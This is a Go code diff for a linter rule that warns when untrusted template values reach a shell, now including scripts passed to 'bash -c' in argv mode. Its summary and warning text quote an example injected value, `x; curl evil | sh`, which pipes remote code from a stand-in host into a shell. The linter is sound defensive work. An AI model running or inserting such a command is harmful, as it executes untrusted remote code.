@@ -10,7 +10,7 @@ import (
 )
 
 var ruleShellInjection = &Rule{ID: "shell-injection", Severity: diag.Warning, LintOnly: true,
-	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, world.last_error, world.host_error, world.last_job_result, or a world key bound from a host or agent call or set from such a value): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). Templates in env:, stdin: and cwd: are not checked",
+	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, world.last_error, world.host_error, world.last_job_result, or a world key bound from a host or agent call or set from such a value): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). The script a shell's -c runs in argv mode (cmd: bash, args: [-c, SCRIPT]) is checked the same way. Templates in env:, stdin: and cwd: are not checked",
 	Example: "- invoke: host.run\n  with: {cmd: \"echo {{ slots.text }}\"}"}
 
 // checkShellInjection warns at each untrusted read inside the line a
@@ -25,6 +25,10 @@ func checkShellInjection(c *checker) {
 		}
 		mode, shell := runShellMode(e.With)
 		if !shell {
+			if i, script, ok := shellScriptArg(e.With); ok {
+				how := "host.run's " + e.With["cmd"].(string) + " -c runs args[" + strconv.Itoa(i) + "] as a shell script"
+				c.shellScalar(e, site, how, operandFix, "args["+strconv.Itoa(i)+"]", script)
+			}
 			return
 		}
 		scalars := [][2]string{}
@@ -39,7 +43,7 @@ func checkShellInjection(c *checker) {
 			}
 		}
 		for _, sc := range scalars {
-			c.shellScalar(e, site, mode, sc[0], sc[1])
+			c.shellScalar(e, site, "host.run runs its line through bash -c ("+mode+")", argvFix, sc[0], sc[1])
 		}
 	})
 }
@@ -60,8 +64,45 @@ func runShellMode(with map[string]any) (mode string, shell bool) {
 	return "it has no args:", true
 }
 
+// The message's second fix: argv mode, or for a shell's -c script, the
+// value as an operand after it ($1).
+const (
+	argvFix    = "run in argv mode (args: [...] without shell: true)"
+	operandFix = "pass it as an operand after the script (args: [\"-c\", \"... \\\"$1\\\"\", \"sh\", \"{{ value }}\"])"
+)
+
+// shellScript is the base names of the shells whose -c runs its operand.
+var shellScript = map[string]bool{"sh": true, "bash": true, "dash": true, "zsh": true, "ksh": true, "ash": true, "mksh": true}
+
+// shellScriptArg finds, in an argv-mode host.run whose cmd: is a shell
+// (cmd: bash, args: ["-c", SCRIPT, ...]), the script -c runs: argv mode
+// runs no shell of its own, but that one parses its script as shell. A
+// combined flag (-ec, -lc) counts; the operands after the script are $0,
+// $1... and stay data.
+func shellScriptArg(with map[string]any) (int, string, bool) {
+	cmd, _ := with["cmd"].(string)
+	args, _ := with["args"].([]any)
+	base := strings.TrimSuffix(cmd[strings.LastIndexAny(cmd, `/\`)+1:], ".exe")
+	if !shellScript[base] {
+		return 0, "", false
+	}
+	for i := 0; i < len(args); i++ {
+		flag, _ := args[i].(string)
+		switch {
+		case flag == "-o" || flag == "+o" || flag == "-O" || flag == "+O":
+			i++ // an option name follows (-o pipefail)
+		case flag == "--" || !strings.HasPrefix(flag, "-") && !strings.HasPrefix(flag, "+"):
+			return 0, "", false // operands begin: a script file, not -c
+		case flag[0] == '-' && !strings.HasPrefix(flag, "--") && strings.Contains(flag, "c") && i+1 < len(args):
+			script, ok := args[i+1].(string)
+			return i + 1, script, ok
+		}
+	}
+	return 0, "", false
+}
+
 // shellScalar reports the untrusted reads of one scalar of the shell line.
-func (c *checker) shellScalar(e *story.Effect, site effSite, mode, field, src string) {
+func (c *checker) shellScalar(e *story.Effect, site effSite, how, fix, field, src string) {
 	if !strings.Contains(src, "{") {
 		return
 	}
@@ -81,8 +122,8 @@ func (c *checker) shellScalar(e *story.Effect, site effSite, mode, field, src st
 			subject = "world." + r.key
 		}
 		c.rep.Warnf(c.src.valuePos(e.WithPos(strings.TrimSuffix(field, ":")), src, line, col), ruleShellInjection,
-			"%s: host.run runs its line through bash -c (%s), and %s in %s puts %s into it: %s is %s, and a value like `x; curl evil | sh` runs as a command; pass it through env: (env: {%s: \"{{ %s }}\"}, and \"$%s\" double-quoted in cmd:) or run in argv mode (args: [...] without shell: true)",
-			site.String(), mode, r.tag, field, r.text, subject, what, name, r.text, name)
+			"%s: %s, and %s in %s puts %s into it: %s is %s, and a value like `x; curl evil | sh` runs as a command; pass it through env: (env: {%s: \"{{ %s }}\"}, and \"$%s\" double-quoted in the script) or %s",
+			site.String(), how, r.tag, field, r.text, subject, what, name, r.text, name, fix)
 	}
 }
 
